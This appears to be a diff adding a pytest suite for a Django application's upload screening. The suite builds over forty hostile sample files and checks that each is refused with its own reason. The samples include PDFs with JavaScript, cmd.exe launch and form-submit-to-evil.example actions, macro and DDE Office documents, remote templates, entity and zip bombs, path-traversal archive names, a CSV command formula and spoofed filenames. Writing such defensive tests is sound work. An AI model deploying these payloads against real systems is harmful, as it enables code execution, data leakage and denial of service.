@@ -1,0 +1,228 @@
+"""More than forty files that may not come in, each with its own reason; and one of every kind that may."""
+
+from __future__ import annotations
+
+import struct
+import zlib
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from django.conf import settings
+from django.core.files.base import ContentFile
+from django.utils.translation import override
+from pikepdf import Array, Dictionary, Encryption, Name
+
+from applications.attachments import add_attachment
+from applications.models import Attachment
+from applications.refusals import Refusal
+from applications.uploads import examine as examination
+from applications.uploads.intake import probe
+from applications.uploads.probe import main
+from applications.uploads.reasons import sentence
+from applications.uploads.verdict import Unfit
+from tests.samples import CSV, GEOJSON, open_document, open_xml, pdf, picture, related, zipped
+from tests.workflow.pilot.conftest import content_of
+
+if TYPE_CHECKING:
+    from applications.models import Application
+    from tests.workflow.pilot.conftest import Firm
+
+LINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
+
+
+def _with(**entries: Any) -> bytes:
+    """A PDF whose catalogue has these entries."""
+    return pdf(root=lambda document: document.Root.update(Dictionary(**entries)))
+
+
+def _carrying(content: bytes) -> bytes:
+    def put(document: Any) -> None:
+        stream = document.make_stream(content)
+        document.Root.Carried = Dictionary(Type=Name.Filespec, UF="payload.bin", EF=Dictionary(F=stream))
+
+    return pdf(root=put)
+
+
+def _png_of(width: int, height: int) -> bytes:
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", b"noise") + chunk(b"IEND", b"")
+
+
+def _encrypted_zip() -> bytes:
+    whole = bytearray(open_xml())
+    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = 0
+        while (start := whole.find(mark, start)) >= 0:
+            whole[start + place] |= 1
+            start += 1
+    return bytes(whole)
+
+
+def _jpeg_with_comment(words: bytes) -> bytes:
+    whole = picture("JPEG")
+    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + whole[2:]
+
+
+WORD = "word/document.xml"
+HOSTILE: list[tuple[str, bytes, str]] = [
+    ("nothing.pdf", b"", "empty"),
+    ("program.pdf", b"MZ\x90\x00\x03\x00", "program"),
+    ("script.csv", b"#!/bin/sh,\nrm -rf", "program"),
+    ("elf.png", b"\x7fELF\x02\x01\x01\x00", "program"),
+    ("archive.docx", zipped({"file": b"x"}), "archive"),
+    ("archive.pdf", b"Rar!\x1a\x07\x01\x00", "archive"),
+    ("drawing.png", b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>', "svg"),
+    ("page.csv", b"<!DOCTYPE html><html>,<script>", "web_page"),
+    ("words.csv", b"no separator here", "unknown"),
+    ("print.csv", b"%!PS-Adobe,3.0", "unknown"),
+    ("zero.csv", b"a,b\x00", "unknown"),
+    ("late.pdf", b"GIF89a" + pdf(), "two_kinds"),
+    # PDF
+    ("broken.pdf", b"%PDF-1.7\nnothing", "pdf_broken"),
+    ("cut.pdf", pdf()[:-40], "pdf_broken"),
+    ("table.pdf", pdf().replace(b"xref", b"xxxx"), "pdf_broken"),
+    ("locked.pdf", pdf(encryption=Encryption(user="a", owner="b")), "pdf_encrypted"),
+    ("owned.pdf", pdf(encryption=Encryption(user="", owner="b")), "pdf_encrypted"),
+    ("script.pdf", _with(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)")), "pdf_script"),
+    ("deep.pdf", _with(AA=Array([Dictionary(X=Dictionary(JS="x"))])), "pdf_script"),
+    ("launch.pdf", _with(OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "pdf_action"),
+    ("send.pdf", _with(OpenAction=Dictionary(S=Name.SubmitForm, F="https://evil.example")), "pdf_action"),
+    ("film.pdf", _with(Extra=Dictionary(Subtype=Name.RichMedia)), "pdf_media"),
+    ("xfa.pdf", _with(AcroForm=Dictionary(XFA="x")), "pdf_form"),
+    ("carrier.pdf", _carrying(b"MZ\x90\x00"), "pdf_carries"),
+    ("page-in.pdf", _carrying(b"<html><script>"), "pdf_carries"),
+    ("zip-behind.pdf", pdf() + zipped({"a": b"b"}), "trailing"),
+    # pictures
+    ("cut.png", picture()[:-6], "image_broken"),
+    ("cut.jpg", picture("JPEG")[:-2], "image_broken"),
+    ("noise.jpg", b"\xff\xd8\xff\xe0\x00\x04noise", "image_broken"),
+    ("bomb.png", _png_of(60_000, 60_000), "image_pixels"),
+    ("zip-behind.png", picture() + zipped({"a": b"b"}), "trailing"),
+    ("page-behind.jpg", picture("JPEG") + b"<script>alert(1)</script>", "trailing"),
+    ("pdf-within.jpg", _jpeg_with_comment(b"%PDF-1.7 %%EOF"), "two_kinds"),
+    ("page-within.jpg", _jpeg_with_comment(b"<html><script>"), "two_kinds"),
+    # office files
+    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "office_old"),
+    ("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "office_encrypted"),
+    ("locked-zip.docx", _encrypted_zip(), "office_encrypted"),
+    ("macro.docx", open_xml(parts={"word/vbaProject.bin": b""}), "macros"),
+    ("hidden-macro.docx", open_xml(types={"word/x.bin": "application/vnd.ms-office.vbaProject"}), "macros"),
+    ("renamed.docx", open_xml(types={WORD: "application/vnd.ms-word.document.macroEnabled.main+xml"}), "macros"),
+    ("macro.odt", open_document(**{"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
+    ("template.docx", open_xml(main=False), "office_other"),
+    ("drawing.odg", open_document("graphics"), "office_other"),
+    ("template-from.docx", open_xml(parts=related("attachedTemplate", "https://evil.example/t.dotm")), "office_external"),  # noqa: E501 - a row of the table
+    ("share.docx", open_xml(parts=related("hyperlink", "file://evil.example/share")), "office_external"),
+    ("picture.docx", open_xml(parts=related("image", "https://evil.example/i.png")), "office_external"),
+    ("picture.odt", open_document(body=f'<a {LINK}><image x:href="https://evil.example/i.png"/></a>'), "office_external"),  # noqa: E501 - a row of the table
+    ("command.docx", open_xml(body="<d><instrText>DDE</instrText><instrText>AUTO c:\\\\x</instrText></d>"), "office_command"),  # noqa: E501 - a row of the table
+    ("object.docx", open_xml(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "office_object"),
+    ("laughs.docx", open_xml(body='<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'), "office_entities"),
+    ("cut.docx", open_xml()[:-30], "zip_broken"),
+    ("torn.docx", open_xml(body="<x>"), "zip_broken"),
+    ("bomb.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet", parts={"xl/a.xml": bytes(30_000_000)}), "zip_bomb"),  # noqa: E501 - a row of the table
+    ("path.docx", open_xml(parts={"../../etc/cron.d/x": b""}), "zip_names"),
+    ("twice.docx", open_xml(parts={"Word/Document.xml": b"<x/>"}), "zip_names"),
+    ("nested.docx", open_xml(parts={"word/media/more.zip": zipped({"a": b"b"})}), "zip_nested"),
+    ("behind.docx", open_xml() + b"<script>", "trailing"),
+    ("before.odt", zipped({"mimetype": b"x"}, comment=b"%PDF-1.7 %%EOF"), "two_kinds"),
+    # text
+    ("long.csv", b"a,b\n" * 5_300_000, "text_long"),
+    ("bytes.csv", b"a,\xff\xfe", "csv_encoding"),
+    ("open.csv", b'a,b\n"c,d', "csv_broken"),
+    ("command.csv", b"a,b\n=cmd|' /C calc'!A0,1", "csv_command"),
+    ("torn.geojson", b'{"type": "Point"', "geojson_broken"),
+    ("deep.geojson", b'{"a":' * 100_000, "geojson_broken"),
+    ("number.geojson", b'{"type": "Point", "coordinates": [NaN, 1]}', "geojson_broken"),
+    ("other.geojson", b'{"type": "Nothing"}', "geojson_shape"),
+    ("open.geojson", b'{"type": "Polygon", "coordinates": [[[1, 1], [2, 2], [3, 1]]]}', "geojson_shape"),
+    ("vn2000.geojson", b'{"type": "Point", "coordinates": [603412.5, 1193874.2]}', "geojson_place"),
+    # names
+    ("...", pdf(), "name_empty"),
+    ("../../etc/passwd", pdf(), "name_path"),
+    ("C:\\temp\\x.pdf", pdf(), "name_path"),
+    ("invoice\u202efdp.exe", pdf(), "name_direction"),
+    ("line\nbreak.pdf", pdf(), "name_control"),
+    ("a" * 201 + ".pdf", pdf(), "name_long"),
+    ("NUL.pdf", pdf(), "name_reserved"),
+    ("run.exe", pdf(), "name_program"),
+    ("invoice.pdf.exe", pdf(), "name_double"),
+    ("photo.php.jpg", picture("JPEG"), "name_double"),
+]  # fmt: skip
+
+HARMLESS: list[tuple[str, bytes, str]] = [
+    ("đề án.PDF", pdf("Đề án"), "pdf"),
+    ("hoá đơn.pdf", _carrying(b"<invoice/>"), "pdf"),
+    ("a.PNG", picture(), "png"),
+    ("a.jpeg", picture("JPEG"), "jpg"),
+    ("two.jpg", picture("JPEG") + b"\0\0" + picture("JPEG"), "jpg"),
+    ("a.docx", open_xml(parts=related("hyperlink", "https://example.org/")), "docx"),
+    ("own.docx", open_xml(parts=related("attachedTemplate", "file:///C:\\\\Templates\\\\a.dotx")), "docx"),
+    ("chart.docx", open_xml(parts={"word/embeddings/t.xlsx": open_xml("xl/workbook.xml", "spreadsheetml.sheet")}), "docx"),  # noqa: E501 - a row of the table
+    ("a.xlsx", open_xml("xl/workbook.xml", "spreadsheetml.sheet"), "xlsx"),
+    ("a.pptx", open_xml("ppt/presentation.xml", "presentationml.presentation"), "pptx"),
+    ("a.odt", open_document(body=f'<t {LINK}><a x:href="https://example.org/"/></t>'), "odt"),
+    ("a.ods", open_document("spreadsheet"), "ods"),
+    ("a.odp", open_document("presentation"), "odp"),
+    ("a.json", GEOJSON, "geojson"),
+    ("b.geojson", (b'{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": '
+     b'"GeometryCollection", "geometries": [{"type": "Polygon", "coordinates": [[[1, 1], [2, 2], [3, 1], [1, 1]]]}]}}]}'),  # noqa: E501 - a row of the table
+     "geojson"),
+    ("a.csv", CSV, "csv"),
+]  # fmt: skip
+
+
+def _stored() -> list[Path]:
+    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]
+
+
+def test_every_hostile_file_is_refused_with_its_own_reason_and_leaves_nothing(pilot: Application, firm: Firm) -> None:
+    assert len(HOSTILE) >= 40
+    before, found = _stored(), {}
+    with override("en"):
+        for name, content, _code in HOSTILE:
+            file: ContentFile[bytes] = ContentFile(content, name)
+            try:
+                add_attachment(pilot, by=firm.founder, component="scheme", title="Đề án", file=file, in_pieces=True)
+            except Refusal as refusal:
+                found[name] = (str(refusal.reason)[:20], refusal.field)
+        expected = {name: (sentence(code)[:20], "file") for name, _content, code in HOSTILE}
+    assert found == expected
+    assert not Attachment.objects.exists()
+    assert _stored() == before
+    assert "attachments" not in content_of(pilot)
+
+
+@pytest.mark.parametrize(("name", "content", "code"), HOSTILE, ids=[row[0][:20] for row in HOSTILE])
+def test_examination_tells_the_code(tmp_path: Path, name: str, content: bytes, code: str) -> None:
+    """In this process, so that every branch is counted."""
+    path = tmp_path / "file"
+    path.write_bytes(content)
+    if not code.startswith("name") and code != "empty":
+        assert main(str(path))["code"] == code
+
+
+@pytest.mark.parametrize(("name", "content", "ending"), HARMLESS, ids=[row[0] for row in HARMLESS])
+def test_harmless_files_pass(tmp_path: Path, name: str, content: bytes, ending: str) -> None:
+    path = tmp_path / "file"
+    path.write_bytes(content)
+    assert main(str(path)) == {"kind": ending, "notes": []}
+
+
+def test_formulas_are_noted(tmp_path: Path) -> None:
+    path = tmp_path / "file"
+    path.write_bytes(b"a;b\n=1+1;2\n")
+    assert main(str(path)) == {"kind": "csv", "notes": ["formulas"]}
+
+
+def test_an_examination_that_dies_has_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    with pytest.raises(Unfit, match="too_hard"):
+        probe(tmp_path / "absent")
+    monkeypatch.setattr(examination, "_by_signature", lambda *_args: (_ for _ in ()).throw(MemoryError))
+    path = tmp_path / "file"
+    path.write_bytes(CSV)
+    assert main(str(path))["code"] == "too_hard"
